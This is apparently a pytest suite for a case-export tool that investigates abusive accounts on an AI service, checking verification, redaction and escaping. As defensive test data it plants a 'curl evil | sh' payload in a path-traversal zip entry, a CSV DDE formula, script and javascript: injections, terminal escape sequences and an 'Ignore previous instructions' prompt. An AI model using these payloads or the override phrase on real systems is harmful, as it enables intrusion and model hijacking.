"""Case files end to end: every file of an export, the manifest, verify catching a one-byte change,
formula-safe CSV, redaction leaving nothing behind, the STIX bundle parsed back with stix2, and
attacker text escaped in the HTML report. Runs on a copy of the committed UI store; its cluster 5
holds three accounts whose email, user agent and prompts are hostile."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
import stix2
from helpers import cli
from tui_waiting import HOSTILE_ACCOUNTS, copy_store

from farmhound.casefile.export import ExportError, csv_cell, export_case
from farmhound.casefile.verify import verify
from farmhound.store import Store
from farmhound.store.cases import CaseBook

FILES = {"report.md", "report.html", "members.csv", "case.json", "evidence/requests.jsonl",
         "evidence/templates.jsonl", "indicators.json", "manifest.json"}  # fmt: skip


@pytest.fixture
def db(tmp_path):
    return copy_store(tmp_path)


@pytest.fixture
def store(db):
    s = Store(db)
    book = CaseBook(s)
    book.new("nightjar", "ana", "hostile farm")
    book.add_clusters("nightjar", [5, 1], "ana")
    book.add_templates("nightjar", [1], "ana")
    book.note("nightjar", "reach them at [x](javascript:alert(1)) <script>alert(2)</script>", "bo")
    yield s
    s.close()


@pytest.fixture
def exported(store, tmp_path):
    return export_case(store, "nightjar", tmp_path / "out" / "nightjar", "cy", tlp="amber", make_zip=True)


def read(folder, name) -> str:
    return (folder / name).read_text(encoding="utf-8-sig")


def test_an_export_holds_every_file_and_verifies(exported, store):
    folder = exported.folder
    assert {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()} == FILES
    manifest = json.loads(read(folder, "manifest.json"))
    assert set(manifest["files"]) == FILES - {"manifest.json"}
    assert (manifest["case"], manifest["analyst"], manifest["tlp"]) == ("nightjar", "cy", "amber")
    assert manifest["tool_version"] and manifest["generated_at"].endswith("Z")
    shas = {s.sha256 for s in store.sources()}
    assert manifest["sources"] and {s["sha256"] for s in manifest["sources"]} <= shas
    for target in (folder, exported.zip_path):
        result = verify(target)
        assert result.ok, result.problems
        assert result.checked == len(FILES) - 1 and result.manifest_sha256 == exported.manifest_sha256


def test_the_case_json_says_who_what_and_with_which_config(exported, store):
    doc = json.loads(read(exported.folder, "case.json"))
    run = store.conn.execute("SELECT config_hash FROM triage_runs ORDER BY id DESC").fetchone()[0]
    assert doc["triage"]["config_hash"] == run and doc["triage"]["config"]["scoring"]
    assert doc["tool_version"] and doc["analyst"] == "cy"
    ids = {m["account_id"] for m in doc["members"]}
    assert set(HOSTILE_ACCOUNTS) <= ids and len(ids) == len(doc["members"])
    hostile = next(m for m in doc["members"] if m["account_id"] == HOSTILE_ACCOUNTS[0])
    assert hostile["level"] and hostile["score"] is not None and hostile["reasons"][0].split()[0]
    assert {c["id"] for c in doc["clusters"]} == {1, 5} and all(c["reasons"] for c in doc["clusters"])
    assert doc["notes"][0]["analyst"] == "bo"


def test_evidence_holds_sample_requests_and_template_examples(exported):
    samples = [json.loads(line) for line in read(exported.folder, "evidence/requests.jsonl").splitlines()]
    per_member = {}
    for s in samples:
        per_member[s["account_id"]] = per_member.get(s["account_id"], 0) + 1
    assert set(HOSTILE_ACCOUNTS) <= set(per_member) and max(per_member.values()) == 5
    assert any("Ignore previous instructions" in (s["prompt"] or "") for s in samples)
    templates = [json.loads(line) for line in read(exported.folder, "evidence/templates.jsonl").splitlines()]
    assert templates and any(t["examples"] for t in templates) and any(t["added"] for t in templates)


def test_verify_names_a_one_byte_change_a_missing_file_and_an_extra_one(exported):
    folder = exported.folder
    path = folder / "members.csv"
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    (folder / "evidence" / "templates.jsonl").unlink()
    (folder / "extra.txt").write_text("slipped in")
    result = verify(folder)
    assert not result.ok
    assert [p.split(":")[0] for p in result.problems] == ["evidence/templates.jsonl", "members.csv", "extra.txt"]
    assert "changed" in result.problems[1] and "missing" in result.problems[0]
    out = cli("case", "verify", folder, expect=1).output
    assert "FAIL members.csv: changed" in out


def test_verify_catches_a_changed_zip_entry(exported, tmp_path):
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(exported.zip_path) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("report.html"):
                data = data.replace(b"nightjar", b"nightjaR", 1)
            dst.writestr(info, data)
    result = verify(bad)
    assert [p.split(":")[0] for p in result.problems] == ["report.html"]
    assert "OK: 7 files" in cli("case", "verify", exported.zip_path).output


def test_verify_without_a_manifest_says_so(tmp_path):
    (tmp_path / "x.txt").write_text("x")
    assert verify(tmp_path).problems == ["manifest.json: missing, so nothing can be checked"]
    assert "no such file" in verify(tmp_path / "nope").problems[0]


@pytest.mark.parametrize(
    "value, shown",
    [("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1-2", "'+1-2"), ("-3", "'-3"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "\\x0d=1"), ("\uff1d1+1", "'\uff1d1+1"),
     ("plain", "plain"), (-3.5, -3.5), (None, ""), (["=a", "b"], "'=a; b")],
)  # fmt: skip
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(value, shown):
    assert csv_cell(value) == shown


def test_members_csv_has_no_formula_cells(store, tmp_path):
    store.conn.execute("UPDATE accounts SET email = '=cmd|'' /C calc''!A0', org_id = '@SUM(1+1)*cmd' "
                       "WHERE account_id = ?", (HOSTILE_ACCOUNTS[0],))  # fmt: skip
    done = export_case(store, "nightjar", tmp_path / "csv", "cy")
    rows = list(csv.reader(io.StringIO(read(done.folder, "members.csv"))))
    assert rows[0][0] == "account_id" and len(rows) == done.members + 1
    cells = [c for row in rows[1:] for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_redaction_leaves_no_email_ip_or_prompt_in_any_file(store, tmp_path):
    done = export_case(store, "nightjar", tmp_path / "shared", "cy", tlp="green",
                       redact=["emails", "ips", "prompts"], make_zip=True)  # fmt: skip
    members = json.dumps(CaseBook(store).members("nightjar"))
    secrets = set()
    for sql in ("SELECT email FROM accounts WHERE email IS NOT NULL AND account_id IN (SELECT value FROM json_each(?))",
                "SELECT DISTINCT ip FROM requests WHERE account_id IN (SELECT value FROM json_each(?))",
                "SELECT signup_ip FROM accounts WHERE signup_ip IS NOT NULL AND account_id IN (SELECT value FROM json_each(?))"):  # fmt: skip
        secrets.update(v for (v,) in store.conn.execute(sql, (members,)))
    prompts = [t for (t,) in store.conn.execute(
        "SELECT substr(p.text, 1, 60) FROM requests r JOIN prompts p ON p.hash = r.prompt_hash "
        "WHERE r.account_id IN (SELECT value FROM json_each(?)) LIMIT 200", (members,))]  # fmt: skip
    assert len(secrets) > 20 and prompts
    for path in done.folder.rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8-sig")
            found = [s for s in secrets if s in text] + [p for p in prompts if json.dumps(p)[1:-1] in text or p in text]
            assert not found, f"{path.name} leaks {found[:3]}"
    doc = json.loads(read(done.folder, "case.json"))
    assert doc["redacted"] == ["emails", "ips", "prompts"]
    assert all((m["email"] or "sha256:").startswith("sha256:") for m in doc["members"])
    assert verify(done.zip_path).ok


def test_the_stix_bundle_parses_back_with_the_case(exported):
    bundle = stix2.parse(read(exported.folder, "indicators.json"), allow_custom=True)
    types = {o.type for o in bundle.objects}
    assert {"identity", "user-account", "indicator", "extension-definition", "marking-definition"} <= types
    assert types & {"grouping", "report"}
    accounts = {o.user_id for o in bundle.objects if o.type == "user-account"}
    assert set(HOSTILE_ACCOUNTS) <= accounts
    assert "pf_hostile" not in read(exported.folder, "indicators.json")  # payment fingerprints only hashed


def test_the_html_report_shows_attacker_text_escaped(exported):
    html = read(exported.folder, "report.html")
    assert "<script" not in html.lower() and not re.search(r"""(?:href|src)\s*=\s*(?!["']?#)""", html)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert "\x1b" not in html and "\x07" not in html and "\u202e" not in html
    assert "[bold red]boss[/]" in html  # markup shown as typed
    md = read(exported.folder, "report.md")
    assert "](javascript:" not in md and "<script>" not in md and "\x1b" not in md


def test_an_export_never_overwrites(exported, store):
    with pytest.raises(ExportError, match="not an empty folder"):
        export_case(store, "nightjar", exported.folder, "cy")
    with pytest.raises(ExportError, match="TLP is one of"):
        export_case(store, "nightjar", exported.folder.with_name("other"), "cy", tlp="purple")
    with pytest.raises(ExportError, match="cannot redact names"):
        export_case(store, "nightjar", exported.folder.with_name("other"), "cy", redact=["names"])


def test_the_export_command(db, store, tmp_path):
    store.close()
    out = tmp_path / "cli-out"
    res = cli("case", "export", "nightjar", "--out", out, "--zip", "--tlp", "red", "--redact", "emails", "--db", db)
    assert "manifest SHA-256" in res.output and (tmp_path / "cli-out.zip").exists()
    assert json.loads((out / "manifest.json").read_text())["tlp"] == "red"
    assert "exported to" in cli("case", "show", "nightjar", "--db", db).output
    assert "cannot redact" in cli("case", "export", "nightjar", "--out", tmp_path / "x", "--redact", "names",
                                  "--db", db, expect=1).output  # fmt: skip


def test_redaction_also_hashes_emails_and_ips_hidden_in_ids_joins_notes_and_reasons(store, tmp_path):
    """An export keyed by email, a member joined through an IP pivot, notes naming addresses in
    every shape: none of it leaves in clear, and the hashed id still joins member and samples."""
    email_id = "o'brien.ops@evil-farm.io"
    store.conn.execute("UPDATE accounts SET account_id = ? WHERE account_id = ?", (email_id, HOSTILE_ACCOUNTS[0]))
    store.conn.execute("UPDATE requests SET account_id = ? WHERE account_id = ?", (email_id, HOSTILE_ACCOUNTS[0]))
    store.conn.execute("UPDATE case_items SET key = ?, via = 'pivot on IP prefix 198.51.100.0/24' WHERE key = ?",
                       (email_id, HOSTILE_ACCOUNTS[0]))  # fmt: skip
    book = CaseBook(store)
    book.note("nightjar", "first seen from 10.9.8.7. then ip:10.9.8.8, 10.9.8.9:8080, host_10.9.8.10, "
              "::ffff:10.9.8.11 and root@localhost", "bo")  # fmt: skip
    done = export_case(store, "nightjar", tmp_path / "shared", "cy", redact=["emails", "ips"])
    planted = [email_id, "198.51.100.0", "10.9.8.7", "10.9.8.8", "10.9.8.9", "10.9.8.10", "10.9.8.11", "root@localhost"]
    for path in done.folder.rglob("*"):
        if path.is_file():
            text = path.read_text(encoding="utf-8-sig")
            assert not [p for p in planted if p in text], f"{path.name} leaks {[p for p in planted if p in text]}"
    doc = json.loads(read(done.folder, "case.json"))
    hashed = {m["account_id"] for m in doc["members"] if m["account_id"].startswith("sha256:")}
    samples = [json.loads(line) for line in read(done.folder, "evidence/requests.jsonl").splitlines()]
    assert len(hashed) == 1 and hashed <= {s["account_id"] for s in samples}


def _zip_with(tmp_path, source_zip, extra: dict[str, bytes], drop: str | None = None, name="evil.zip"):
    out = tmp_path / name
    with zipfile.ZipFile(source_zip) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if drop and info.filename.endswith(drop):
                continue
            dst.writestr(info, src.read(info))
        for entry, data in extra.items():
            dst.writestr(entry, data)
    return out


def test_verify_refuses_a_zip_with_a_second_copy_of_a_file(exported, tmp_path):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name we are planting
        evil = _zip_with(tmp_path, exported.zip_path, {"nightjar/report.html": b"<h1>forged</h1>"})
    result = verify(evil)
    assert not result.ok and any("more than once" in p for p in result.problems)


def test_verify_refuses_unsafe_paths_in_a_zip_and_in_a_manifest(exported, tmp_path):
    evil = _zip_with(tmp_path, exported.zip_path, {"../../.bashrc": b"curl evil | sh", "/etc/cron.d/x": b"x"})
    problems = verify(evil).problems
    assert any(p.startswith("../../.bashrc: an unsafe path") for p in problems)
    assert any(p.startswith("/etc/cron.d/x: an unsafe path") for p in problems)
    folder = exported.folder
    manifest = json.loads(read(folder, "manifest.json"))
    manifest["files"]["../outside.txt"] = {"sha256": "0" * 64, "bytes": 1}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    assert "../outside.txt: an unsafe path in the manifest (absolute, or with ..)" in verify(folder).problems


@pytest.mark.parametrize("files", [[], "report.md", {}, None])
def test_verify_says_a_manifest_without_a_file_list_is_unreadable(exported, files):
    folder = exported.folder
    manifest = json.loads(read(folder, "manifest.json"))
    manifest["files"] = files
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = verify(folder)
    assert not result.ok and result.problems == ["manifest.json: unreadable (it lists no files)"]


def test_case_verify_shows_a_foreign_manifest_literally(exported):
    folder = exported.folder
    manifest = json.loads(read(folder, "manifest.json"))
    manifest["generated_at"] = "\x1b]0;owned\x07\x1b[2J"
    (folder / "manifest.json").write_text(json.dumps(manifest))
    out = cli("case", "verify", folder).output  # the files still match the rewritten manifest ...
    assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;owned" in out
    assert exported.manifest_sha256 not in out  # ... but its own hash is not the one the sender gave
